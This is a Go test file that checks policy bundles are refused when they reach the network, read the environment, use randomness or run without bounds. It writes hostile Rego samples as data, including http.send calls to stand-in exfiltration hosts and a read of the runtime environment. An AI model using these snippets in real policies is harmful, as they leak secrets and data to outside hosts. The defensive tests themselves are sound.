package hostile_test

import (
	"testing"
)

// regoBundle is a contract policy bundle whose one rule fires when body holds.
func regoBundle(body string) string {
	return `package floe.hostile

import rego.v1

rules["ACME-EVIL-01"] := {"title": "hostile", "severity": "warn", "remediation": "none"}

violation contains {"rule": "ACME-EVIL-01", "i": 0, "msg": msg} if {
` + body + `
}
`
}

// TestBundlesStayHermetic: a contract's rego bundle is code from the repository; it
// must not reach the network, read the runtime's environment, or depend on randomness,
// and its evaluation is bounded in time and in the size of what it returns.
func TestBundlesStayHermetic(t *testing.T) {
	b := func(file, body string) func(s *sandbox, r *repo) via {
		return func(s *sandbox, r *repo) via {
			r.bundle(file, withHost(s, regoBundle(body)))
			return via{}
		}
	}
	cases := []hostileCase{
		{name: "http.send", setup: b("net.rego", `	resp := http.send({"method": "GET", "url": "http://{{server}}/exfiltrate"})
	msg := sprintf("%v", [resp.status_code])`),
			wants: []string{bundleDir + "/net.rego", "http.send"}},
		{name: "http.send-through-proxy", setup: b("net.rego", `	resp := http.send({"method": "GET", "url": "http://exfiltrate.example.com/"})
	msg := sprintf("%v", [resp.status_code])`),
			wants: []string{bundleDir + "/net.rego", "http.send"}},
		{name: "net.lookup_ip_addr", setup: b("dns.rego", `	addrs := net.lookup_ip_addr("exfiltrate.invalid")
	msg := sprintf("%v", [addrs])`),
			wants: []string{bundleDir + "/dns.rego", "net.lookup_ip_addr"}},
		{name: "opa.runtime", setup: b("env.rego", `	msg := sprintf("%v", [opa.runtime().env])`),
			wants: []string{bundleDir + "/env.rego", "opa.runtime"}},
		{name: "rand.intn", setup: b("rand.rego", `	rand.intn("seed", 2) == 1
	msg := "coin"`),
			wants: []string{bundleDir + "/rand.rego", "rand.intn"}},
		{name: "uuid.rfc4122", setup: b("uuid.rego", `	msg := uuid.rfc4122("x")`),
			wants: []string{bundleDir + "/uuid.rego", "uuid.rfc4122"}},
		{name: "never-ends", setup: b("slow.rego", `	some i in numbers.range(1, 100000)
	some j in numbers.range(1, 100000)
	some k in numbers.range(1, 100000)
	i + j + k < 0
	msg := "never"`),
			wants: []string{bundleDir + "/slow.rego|" + bundleDir + "|policy.bundles", "deadline|time|timeout|too long"}},
		{name: "huge-message", setup: b("huge.rego", `	parts := [s | some _ in numbers.range(1, 400000); s := "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"]
	msg := concat("", parts)`),
			wants: []string{bundleDir + "/huge.rego|" + bundleDir + "|policy.bundles"},
			check: assertStderrBounded(64 << 10)},
		{name: "huge-finding-count", setup: func(s *sandbox, r *repo) via {
			r.bundle("many.rego", `package floe.hostile

import rego.v1

rules["ACME-EVIL-01"] := {"title": "hostile", "severity": "warn", "remediation": "none"}

violation contains {"rule": "ACME-EVIL-01", "i": 0, "msg": sprintf("finding %d", [n])} if {
	some n in numbers.range(1, 1000000)
}
`)
			return via{}
		}, wants: []string{bundleDir + "/many.rego|" + bundleDir + "|policy.bundles"},
			check: assertStderrBounded(64 << 10)},
	}
	for i := range cases {
		cases[i].doors = allDoors
	}
	runRefused(t, cases)
}
